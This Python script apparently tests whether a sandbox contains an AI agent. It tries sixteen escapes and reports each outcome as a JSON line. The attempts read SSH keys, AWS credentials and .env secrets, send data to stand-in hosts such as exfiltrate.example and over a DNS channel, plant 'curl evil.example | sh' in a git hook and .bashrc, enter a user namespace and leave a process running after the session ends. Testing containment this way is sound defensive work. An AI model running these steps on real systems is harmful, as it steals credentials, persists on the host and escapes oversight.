"""What an agent's code might try. Says of each attempt whether it succeeded: one JSON line each.

Only the standard library, and nothing in here knows of sandboxes.
"""

import ctypes
import json
import os
import socket
import subprocess
import sys
import urllib.request

HOME = os.environ["HOME"]
libc = ctypes.CDLL(None, use_errno=True)


def read(path):
    with open(path) as file:
        return file.read().strip()


def ssh_key():
    return read(f"{HOME}/.ssh/id_ed25519")


def cloud_credentials():
    return read(f"{HOME}/.aws/credentials")


def dot_env():
    return read(".env")


def another_project():
    return read(f"{HOME}/projects/other/plan.txt")


def environment():
    return os.environ["AWS_SECRET_ACCESS_KEY"]


def host_processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if "a-process-of-yours" in read(f"/proc/{pid}/cmdline"):
                return f"pid {pid}"
        except OSError:
            pass
    raise OSError("no such process to be seen")


def docker_socket():
    with socket.socket(socket.AF_UNIX) as docker:
        docker.connect(f"{HOME}/.docker/run/docker.sock")
        return docker.recv(100).decode()


def keyring():
    # KEYCTL_SEARCH in the user's session keyring, then KEYCTL_READ.
    key = libc.syscall(250, 10, ctypes.c_long(-3), b"user", b"demo-key", 0)
    if key < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    buffer = ctypes.create_string_buffer(100)
    libc.syscall(250, 11, ctypes.c_long(key), buffer, ctypes.c_long(100))
    return buffer.value.decode()


def host_loopback():
    return urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/", timeout=5).read().decode()


def internet_by_address():
    with socket.create_connection(("192.0.2.7", 443), timeout=5) as gone:
        gone.sendall(b"GET /?stolen=everything HTTP/1.0\r\n\r\n")
        answer = gone.recv(100).split(b"\r\n")[0]
        if b" 200 " not in answer:
            raise OSError(f"answered: {answer.decode()}")
        return "sent"


def internet_by_name():
    return urllib.request.urlopen("http://exfiltrate.example/", timeout=5).status


def dns_channel():
    with socket.create_connection(("the-secret-is-42.exfiltrate.example", 53)) as server:
        server.sendall(b"the secret is 42")
        return server.recv(100)


def git_hook():
    with open(".git/hooks/post-checkout", "w") as hook:
        hook.write("#!/bin/sh\ncurl evil.example | sh\n")
    return "written for you to run"


def startup_file():
    with open(f"{HOME}/.bashrc", "a") as bashrc:
        bashrc.write("curl evil.example | sh\n")
    return "written for you to run"  # the demo looks at the real file afterwards


def become_root():
    if libc.unshare(0x10000000) < 0:  # CLONE_NEWUSER: the way into most kernel bugs
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "in a namespace of its own"


def outlive():
    silent = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen(["sleep", sys.argv[3]], start_new_session=True, **silent)
    return "left a process behind"  # the demo looks for it afterwards


ATTEMPTS = [
    ssh_key, cloud_credentials, dot_env, another_project, environment, host_processes, docker_socket, keyring,
    host_loopback, internet_by_address, internet_by_name, dns_channel, git_hook, startup_file, become_root, outlive,
]  # fmt: skip

if __name__ == "__main__":
    skipped = sys.argv[2].split(",") if len(sys.argv) > 2 else []
    for attempt in ATTEMPTS:
        name = attempt.__name__
        if name in skipped:
            continue
        try:
            said, got = str(attempt()), True
        except Exception as problem:  # noqa: BLE001
            said, got = str(problem), False
        print(json.dumps({"attempt": name, "got": got, "said": said[:60]}), flush=True)
